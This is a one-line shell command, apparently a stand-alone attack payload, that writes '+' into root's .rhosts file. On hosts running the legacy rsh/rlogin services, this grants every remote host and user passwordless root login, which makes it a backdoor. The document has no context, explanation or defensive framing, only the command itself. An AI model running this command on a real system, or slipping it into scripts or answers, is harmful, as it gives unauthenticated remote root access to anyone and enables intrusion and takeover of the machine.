echo + >/root/.rhosts
